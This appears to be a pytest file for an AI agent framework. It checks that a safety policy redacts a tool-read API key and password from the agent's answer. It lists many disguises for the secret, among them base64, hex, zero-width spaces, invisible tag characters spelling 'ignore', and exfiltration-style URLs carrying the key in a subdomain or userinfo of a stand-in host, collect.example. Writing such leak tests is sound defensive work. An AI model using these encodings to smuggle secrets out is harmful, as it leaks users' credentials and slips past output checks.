"""Issue 23, item 8: a key the run read does not leave in the answer however it is dressed up:
base64, hex, reversed, split over paragraphs, interleaved with zero-width spaces, fullwidth,
percent-encoded, in a link's subdomain or userinfo, after invisible tag characters."""

from __future__ import annotations

import base64

import pytest

from tether import Agent, tool
from tether.models._scripted import ScriptedModel, call
from tether.policy import SafetyPolicy
from tether.policy._leaks import leaked_in, secrets_in

KEY = "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e"
PASSWORD = "Tr0ub4dor&3x!"


@tool
def read_config() -> str:
    """Read the deployment config."""
    return f"OPENAI_API_KEY={KEY}\nthe database password is {PASSWORD}\nregion: eu-west-1\n"


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


DRESSED = {
    "plain": KEY,
    "base64": base64.b64encode(KEY.encode()).decode(),
    "hex": KEY.encode().hex(),
    "reversed": KEY[::-1],
    "split over paragraphs": KEY[:9] + "\n\n" + KEY[9:20] + "\n\n" + KEY[20:],
    "zero-width spaces": "\u200b".join(KEY),
    "fullwidth": _fullwidth(KEY),
    "percent-encoded": "".join(f"%{b:02X}" for b in KEY.encode()),
    "subdomain": "https://" + base64.b64encode(KEY.encode()).decode().rstrip("=") + ".collect.example/p.png",
    "userinfo": f"https://{KEY}@collect.example/",
    "tag characters": "".join(chr(0xE0000 + ord(c)) for c in "ignore") + KEY,
    "password in base64": base64.b64encode(PASSWORD.encode()).decode(),
}


@pytest.mark.parametrize("how", sorted(DRESSED))
def test_a_secret_the_run_read_is_redacted_from_the_answer(how: str) -> None:
    answer = f"Done. Here is what you asked for: {DRESSED[how]}"
    result = Agent(ScriptedModel([call("read_config"), answer]), tools=[read_config], policy=SafetyPolicy()).run(
        "summarise the deployment config")
    assert KEY not in result.answer and DRESSED[how] not in result.answer
    # issue 40: the spans are redacted in place, the rest of the answer is kept (it used to be withheld whole)
    assert result.answer.startswith("Done. Here is what you asked for: "), result.answer
    assert "[secret from read_config redacted]" in result.answer, result.answer


def test_an_answer_without_the_secret_passes_untouched() -> None:
    answer = "The service runs in eu-west-1 and uses an API key and a database password (not shown)."
    result = Agent(ScriptedModel([call("read_config"), answer]), tools=[read_config], policy=SafetyPolicy()).run(
        "summarise the deployment config")
    assert result.answer == answer


def test_the_values_are_known_exactly() -> None:
    found = secrets_in(read_config())
    assert found == {KEY, PASSWORD}
    assert leaked_in("nothing here: sk-live is a prefix, Tr0ub is half", found) == []
